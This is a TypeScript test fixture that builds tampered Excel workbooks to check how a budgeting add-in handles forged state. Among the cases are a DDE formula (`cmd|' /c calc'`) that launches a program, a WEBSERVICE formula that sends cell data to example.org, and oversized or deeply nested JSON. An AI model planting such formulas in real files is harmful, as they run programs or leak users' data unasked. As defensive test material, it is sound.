import { STATE_NAMESPACE } from '../../src/excel/state-part';
import { stateXml } from '../../src/excel/state-xml';
import { inExcel } from '../../src/excel/in-excel';
import { RESULT_SHEET } from '../../src/workbook/sheets/own-sheets';
import { newDocument } from '../../standin/document/new-document';
import type { WorkbookDocument } from '../../standin/document/workbook-document';
import { saveWorkbook } from '../../standin/files/save-workbook';
import { startExcel } from '../../standin/headless/excel-stand-in';
import { SMALL } from '../commands/small-workbook';
import type { CellValue } from '../../src/workbook/snapshot';

type Sheets = Readonly<Record<string, readonly (readonly CellValue[])[]>>;

const PLAN = { formats: [], tables: [], charts: [], columnWidths: [], tallRows: [] };
const STATE = { ownSheets: [], sheets: [], shown: [], runs: [], assignment: [], corrections: [] };
const RUN = { time: '2026-11-23T10:00:00', cells: [], shownBefore: [] };

/** A run that claims to have replaced a formula in a result cell that is blank. */
const replaced = (formula: string) => ({
  ...RUN,
  cells: [
    { place: { sheet: 'Haushalt', cell: 'G2' }, before: { formula }, after: '', figure: 'Eigenanteil 2021' },
  ],
});

const USERS_SHEET = { ...PLAN, name: 'Stellen', values: SMALL.Stellen };

/** The files of somebody who wants a click to do what nobody asked for, by the row of the list that they belong to. */
export const PREPARED_FILES = {
  'a sheet of the user among those that are shown': file(SMALL, {
    ...STATE,
    sheets: [USERS_SHEET],
    shown: [0],
    runs: [RUN],
  }),
  'a sheet of the user among those that were shown before': file(SMALL, {
    ...STATE,
    sheets: [USERS_SHEET],
    runs: [{ ...RUN, shownBefore: [0] }],
  }),
  'a formula that asks the web': file(SMALL, {
    ...STATE,
    runs: [replaced('=KIM.KOSTEN(WEBSERVICE("https://example.org/"&Stellen!D2),1)')],
  }),
  'a formula that starts another program, below a run that looks real': file(SMALL, {
    ...STATE,
    runs: [replaced(`=cmd|' /c calc'!A1`), replaced('=KIM.EIGENANTEIL(329884,206250)')],
  }),
  'a sheet of the user claimed as the result sheet': file(
    { ...SMALL, [RESULT_SHEET]: [['Vermerk des Kämmerers'], [1]] },
    { ...STATE, ownSheets: [RESULT_SHEET] },
  ),
  'values that are null': file(SMALL, { ...STATE, runs: [{ ...RUN, cells: null }] }),
  'two hundred thousand brackets': file(SMALL, `{"runs":${'['.repeat(200_000)}`),
  'an assignment of nothing': file(SMALL, { ...STATE, assignment: [{}] }),
  'a state of six megabytes': file(SMALL, `{"runs":[],"x":"${'x'.repeat(6_000_000)}"}`),
  'a name on a paragraph': file({ ...SMALL, Vermerk: [['Der Rat hat am 1. Juli beschlossen.']] }, null, {
    KIM_Eigenanteil: 'Vermerk!$A$1',
  }),
} satisfies Record<string, () => Promise<Uint8Array>>;

export type PreparedName = keyof typeof PREPARED_FILES;

/** Makes a file of sheets, a state as it stands in the file, and names. */
function file(
  sheets: Sheets,
  state: object | string | null,
  names: Readonly<Record<string, string>> = {},
): () => Promise<Uint8Array> {
  return async () => {
    const excel = await startExcel(newDocument(Object.keys(sheets)));
    const uninstall = excel.install();
    await inExcel(async (context) => {
      for (const [name, values] of Object.entries(sheets)) {
        const sheet = context.workbook.worksheets.getItem(name);
        const range = sheet.getRangeByIndexes(0, 0, values.length, values[0]!.length);
        range.values = values.map((row) =>
          row.map((value) => (typeof value === 'string' ? `'${value}` : value)),
        );
      }
      await context.sync();
    });
    uninstall();
    const { document } = excel;
    if (state !== null) addState(document, typeof state === 'string' ? state : JSON.stringify(state));
    for (const [name, refersTo] of Object.entries(names)) {
      document.names.push({ name, refersTo, sheetId: null, hidden: false });
    }
    return saveWorkbook(document);
  };
}

/** A part like the add-in's own; a second one may be added. */
export function addState(document: WorkbookDocument, text: string): void {
  document.customXmlParts.push({
    id: `{11111111-0000-0000-0000-${String(document.customXmlParts.length).padStart(12, '0')}}`,
    namespace: STATE_NAMESPACE,
    xml: stateXml(text),
    part: null,
    changed: true,
    deleted: false,
  });
}
